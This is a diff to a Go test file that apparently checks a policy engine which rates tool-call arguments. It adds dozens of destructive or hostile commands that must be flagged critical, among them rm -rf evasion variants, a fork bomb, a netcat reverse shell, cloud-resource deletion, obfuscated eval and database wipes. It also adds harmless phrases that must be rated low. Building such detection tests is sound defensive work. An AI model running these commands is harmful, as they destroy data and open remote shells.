@@ -170,6 +170,14 @@ func TestShellAndCode(t *testing.T) {
 		"open('/etc/passwd', 'w').write('')", "require('child_process').exec('id')",
 		"eval(input())", "new Function('return 1')()", "db.users.deleteMany({})",
 		"mutation { deleteUser(id: 1) { id } }", "<?php system($_GET['c']);",
+		"/bin/rm -rf x", `\rm -rf x`, "'rm' -rf x", `r"m" -rf x`, "rm${IFS}-rf${IFS}x", "rm -r a b c", "command rm -rf x",
+		"timeout 5 rm -rf x", "busybox rm -rf x", "find / -exec rm {} \\;", ":(){ :|:& };:", "nc -e /bin/sh 192.0.2.1 99",
+		"ln -s a b", "cp -r a b", "sed -i s/a/b/ x", "rsync --delete a b", "tar xf x -C /", "ls | xargs rm",
+		"ssh root@db.example uptime", "scp a db.example:/tmp", "service nginx stop", "aws s3 rm s3://x --recursive",
+		"gcloud compute instances delete x", "globalThis.eval(x)", "window['eval'](x)", "getattr(os, 'sys' + 'tem')('x')",
+		"Bun.write('x', 'y')", "File.delete('x')", "FileUtils.rm_rf('x')", `os.RemoveAll("x")`,
+		`Files.deleteIfExists(path)`, `std::fs::remove_file("x")`, "unlink('x');", "MATCH (n) DETACH DELETE n",
+		"g.V().drop()", "FLUSHALL", "CONFIG SET dir /tmp",
 	} {
 		if got := assess(t, "lookup", object("x", text)); got.Risk != policies.RiskCritical || got.Engine != "code" ||
 			!strings.HasPrefix(got.Raised, "arguments.x ") {
@@ -199,6 +207,10 @@ func TestHarmlessContent(t *testing.T) {
 		`{"text": "Please remove me from the list; thanks."}`,
 		`{"text": "import the data, then open (or create) the file"}`, `{"pattern": "^(a|b)+$", "flags": "i"}`,
 		`{"text": "The system (see below) evaluates & updates prices; see §3."}`,
+		`{"text": "It takes time to remove 'dead' code, and Bob's \"copy\" of a file."}`,
+		`{"text": "Install the plugin first. Service the car, stop at the shop."}`, `{"path": "/usr/bin/rm"}`,
+		`{"text": "Tar extraction is slow; az and aws are clouds"}`, `{"text": "Windows Files. Directory. Delete"}`,
+		`{"text": "rm is a command; \"sed\" is another"}`, `{"regex": "^\\s*(\\w+)\\s*$"}`,
 	} {
 		if got := assess(t, "lookup", arguments); got.Risk != policies.RiskLow {
 			t.Errorf("%s: %+v, want LOW", arguments, got)
